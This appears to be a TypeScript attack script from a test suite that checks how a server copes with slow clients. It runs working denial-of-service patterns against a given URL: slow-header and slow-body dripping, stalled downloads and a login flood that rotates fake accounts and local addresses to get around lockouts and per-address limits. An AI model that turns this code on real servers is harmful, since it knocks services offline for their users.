// The attacker of `slow-clients.ts`, a process of its own: `node slow-clients-attack.ts URL KIND SOCKETS FILM`.
import { connect, type Socket } from 'node:net';
import { pathToFileURL } from 'node:url';

/** What each of the attacker's connections does. */
export const kinds = ['slow head', 'slow body', 'stalled download', 'login flood'] as const;
export type Kind = (typeof kinds)[number];

/** The pause between two writes of a connection, and before a closed or answered one starts again. */
const pauseMilliseconds = 1_000;

function open(url: URL, kind: Kind, film: string, localAddress: string, number: number): void {
  const socket = connect({ host: url.hostname, port: Number(url.port), localAddress });
  const again = () =>
    void setTimeout(() => open(url, kind, film, localAddress, number), pauseMilliseconds);
  const dripping = setInterval(() => drip(socket, kind), pauseMilliseconds);
  let answered = 0;
  socket.on('error', () => {});
  socket.once('close', () => {
    clearInterval(dripping);
    again();
  });
  if (kind === 'stalled download') socket.pause();
  else
    socket.on('data', () => {
      answered += 1;
      if (kind === 'login flood' && socket.writable)
        setTimeout(() => socket.write(loginOf(`${number}-${answered}`)), pauseMilliseconds);
    });
  socket.once('connect', () => {
    socket.write(firstBytes(kind, film, number));
  });
}

function firstBytes(kind: Kind, film: string, number: number): string {
  switch (kind) {
    case 'slow head':
      return 'GET /sok?q=ord HTTP/1.1\r\nHost: x\r\nX-Slow: ';
    case 'slow body':
      return 'POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{';
    case 'stalled download':
      return `GET ${film} HTTP/1.1\r\nHost: x\r\n\r\n`;
    case 'login flood':
      return loginOf(String(number));
  }
}

function drip(socket: Socket, kind: Kind): void {
  if (socket.writable && (kind === 'slow head' || kind === 'slow body')) socket.write(' ');
}

// Another account each time, because failed attempts at one account are refused earlier.
function loginOf(name: string): string {
  const body = JSON.stringify({ email: `${name}@flod.example`, password: 'gissat-och-fel' });
  return `POST /api/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
}

if (pathToFileURL(process.argv[1] ?? '').href === import.meta.url) {
  const [url = '', kind = '', count = '', film = ''] = process.argv.slice(2);
  const sockets = Number(count);
  const mixed = kind === 'many addresses';
  for (let number = 0; number < sockets; number += 1) {
    const address = mixed ? `127.0.2.${(number % 250) + 1}` : '127.0.0.2';
    const each = mixed ? (kinds[number % kinds.length] ?? 'slow head') : (kind as Kind);
    setTimeout(() => open(new URL(url), each, film, address, number), number / 2);
  }
}
